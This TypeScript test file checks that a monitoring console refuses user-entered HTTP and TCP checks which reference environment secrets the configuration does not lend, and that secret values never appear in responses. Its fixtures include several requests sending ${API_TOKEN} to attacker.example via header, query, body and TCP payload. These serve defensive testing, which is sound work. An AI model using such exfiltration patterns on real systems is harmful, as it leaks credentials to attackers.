/** Whoever may add checks sends no secret of the environment to a target of theirs, but what the file lends (P9, P33). */
import { expect, test } from 'vitest';
import { isRefusal } from '#domain/refusal.ts';
import { enteredComponent, readConsoleComponent } from '#monitor/config/console-component.ts';
import { openConsoleDesk, readConfig, SECRETS } from '../../support/console-desk.ts';

const FILE = 'components:\n  - {name: Website, http: https://www.example.com/}\n';
const LENT = `${FILE}probes:\n  secrets: [API_TOKEN]\n`;
const SPY = { slug: 'spy', name: 'Spy' };
const WAYS: readonly object[] = [
  { http: { url: 'https://attacker.example/', headers: { 'x-a': `\${API_TOKEN}` } } },
  { http: { url: `https://attacker.example/?a=\${API_TOKEN}` } },
  { http: { url: 'https://attacker.example/', method: 'POST', body: `\${API_TOKEN}` } },
  { tcp: { host: 'attacker.example', port: 99, send: `\${API_TOKEN}` } },
];

test.each(WAYS)('a check of the console with %j is refused, added or tried, and goes where the file lends the name', async (way) => {
  await using desk = await openConsoleDesk(FILE);
  for (const verb of ['add', 'test'] as const) {
    const answer = await desk.ask(verb, { component: { ...SPY, ...way } });
    expect(answer).toMatchObject({
      code: 'bad_component',
      message: expect.stringContaining('refers to API_TOKEN, and the configuration lends no secrets to what is entered here'),
    });
    expect(JSON.stringify(answer)).not.toContain(SECRETS['API_TOKEN']);
  }
  await using lending = await openConsoleDesk(LENT);
  expect(isRefusal(await lending.ask('add', { component: { ...SPY, ...way } }))).toBe(false);
});

test('the refusal of a secret that is not lent says which are, and who can lend it', () => {
  const secret = (name: string): string | null => SECRETS[name] ?? null;
  const way = { http: { url: 'https://attacker.example/', headers: { 'x-a': `\${OTHER_TOKEN}` } } };
  const read = readConsoleComponent({ ...SPY, ...way }, 10_000, { config: readConfig(LENT), secret, ownPorts: [] });
  expect('slug' in read ? [] : read.map(({ message }) => message)).toEqual([
    '"x-a" refers to OTHER_TOKEN, which the configuration does not lend to what is entered here; it lends API_TOKEN. Whoever keeps its file can add OTHER_TOKEN to "probes.secrets"',
  ]);
});

test('what was entered before the file took a name back is not probed with it', () => {
  const secret = (name: string): string | null => SECRETS[name] ?? null;
  const read = readConsoleComponent({ ...SPY, ...WAYS[0] }, 10_000, { config: readConfig(LENT), secret, ownPorts: [] });
  if (!('slug' in read)) throw new Error('not read');
  const { managed: _m, hidden: _h, written = read.check.definition, ...stored } = read;
  const kept = { ...stored, check: { ...stored.check, definition: written } };
  expect(enteredComponent(kept, secret, ['API_TOKEN']).faults).toEqual([]);
  const { component, faults } = enteredComponent(kept, secret, []);
  expect(faults.map(({ message }) => message)).toEqual([expect.stringContaining('lends no secrets to what is entered here')]);
  expect(JSON.stringify(component)).not.toContain(SECRETS['API_TOKEN']);
});

test('the file lends no variable of Avow, and what it lends is said in what it exports', () => {
  expect(() => readConfig(`${FILE}probes: {secrets: [AVOW_SECRETS_KEY]}\n`)).toThrow('must not be a variable of Avow itself');
  expect(readConfig(LENT).probeSecrets).toEqual(['API_TOKEN']);
});
